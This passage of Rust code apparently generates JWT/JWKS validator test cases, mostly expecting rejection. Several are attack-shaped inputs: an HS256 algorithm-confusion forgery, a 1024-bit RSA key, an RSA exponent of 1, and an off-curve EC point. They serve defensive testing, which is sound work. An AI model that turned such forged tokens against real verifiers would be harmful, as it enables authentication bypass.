        policy(),
        invalid(),
    );
    let mut ops = g.keys.rs1.jwk();
    ops["key_ops"] = json!(["encrypt"]);
    g.push(
        "keys-key-ops-encrypt",
        "AC-078",
        t0.clone(),
        json!({"keys": [ops]}),
        N,
        policy(),
        invalid(),
    );
    let mut sign_only = g.keys.rs1.jwk();
    sign_only["key_ops"] = json!(["sign"]);
    g.push(
        "keys-key-ops-sign",
        "AC-078",
        t0.clone(),
        json!({"keys": [sign_only]}),
        N,
        policy(),
        invalid(),
    );
    let mut verify = g.keys.rs1.jwk();
    verify["key_ops"] = json!(["verify"]);
    g.push(
        "keys-key-ops-verify",
        "AC-078 control",
        t0.clone(),
        json!({"keys": [verify]}),
        N,
        policy(),
        ok(&["mcp:read"]),
    );
    g.push(
        "keys-alg-mismatch",
        "AC-079",
        t0.clone(),
        json!({"keys": [g.keys.rs1.jwk_with_alg("PS256")]}),
        N,
        policy(),
        invalid(),
    );
    g.push(
        "keys-use-sig-alg-match",
        "control: JWK alg equals header alg",
        t0.clone(),
        json!({"keys": [g.keys.rs1.jwk_with_alg("RS256")]}),
        N,
        policy(),
        ok(&["mcp:read"]),
    );
    let secret = b"0123456789abcdef0123456789abcdef";
    let input = format!(
        "{}.{}",
        b64(json!({"alg": "HS256", "typ": "at+jwt", "kid": "rs1"})
            .to_string()
            .as_bytes()),
        b64(claims().to_string().as_bytes())
    );
    let tag = hmac_sha256(secret, input.as_bytes());
    g.push(
        "keys-symmetric",
        "AC-080",
        format!("{input}.{}", b64(&tag)),
        json!({"keys": [{"kty": "oct", "kid": "rs1", "k": b64(secret)}]}),
        N,
        json!({"issuers": [ISSUER], "audiences": [RESOURCE], "algorithms": ["HS256", "RS256"]}),
        invalid(),
    );
    let weak = rsa1024_fixture();
    g.push(
        "keys-rsa-1024",
        "AC-081: a correctly signed token by a 1024-bit key",
        weak["token"].as_str().unwrap_or_default().to_owned(),
        json!({"keys": [weak["jwk"]]}),
        N,
        policy(),
        invalid(),
    );
    let mut e1 = g.keys.rs1.jwk();
    e1["e"] = json!("AQ");
    g.push(
        "keys-rsa-exponent-1",
        "AC-081",
        t0.clone(),
        json!({"keys": [e1]}),
        N,
        policy(),
        invalid(),
    );
    let ec_t = g.keys.ec1.sign(&header("ES256", "ec1"), &claims());
    let mut short = g.keys.ec1.jwk();
    let x = URL_SAFE_NO_PAD
        .decode(short["x"].as_str().unwrap_or_default())
        .unwrap_or_default();
    short["x"] = json!(b64(&x[1..]));
    g.push(
        "keys-ec-short-x",
        "AC-082",
        ec_t.clone(),
        json!({"keys": [short]}),
        N,
        policy(),
        invalid(),
    );
    let mut off_curve = g.keys.ec1.jwk();
    let mut y = URL_SAFE_NO_PAD
        .decode(off_curve["y"].as_str().unwrap_or_default())
        .unwrap_or_default();
    if let Some(b) = y.last_mut() {
        *b ^= 1;
    }
    off_curve["y"] = json!(b64(&y));
    g.push(
        "keys-ec-off-curve",
        "AC-082: point not on the curve",
        ec_t.clone(),
        json!({"keys": [off_curve]}),
        N,
        policy(),
        invalid(),
    );
    let mut wrong_crv = g.keys.ec1.jwk();
    wrong_crv["crv"] = json!("P-384");
    g.push(
        "keys-ec-wrong-curve",
        "AC-082",
        ec_t.clone(),
        json!({"keys": [wrong_crv]}),
        N,
        policy(),
        invalid(),
    );
    g.push(
        "keys-empty-set",
        "FORMAT: an empty set",
        t0.clone(),
        json!({"keys": []}),
        N,
        policy(),
        invalid(),
    );
    g.push(
        "keys-not-a-set",
        "AC-084",
        t0.clone(),
        json!({"keys": {}}),
        N,
        policy(),
        invalid(),
    );
    g.push(
        "keys-null",
        "AC-084",
        t0.clone(),
        json!({"keys": null}),
        N,
        policy(),
        invalid(),
    );
    g.push(
        "keys-array-document",
        "AC-084",
        t0,
        json!([g.keys.rs1.jwk()]),
        N,
        policy(),
        invalid(),
    );
}
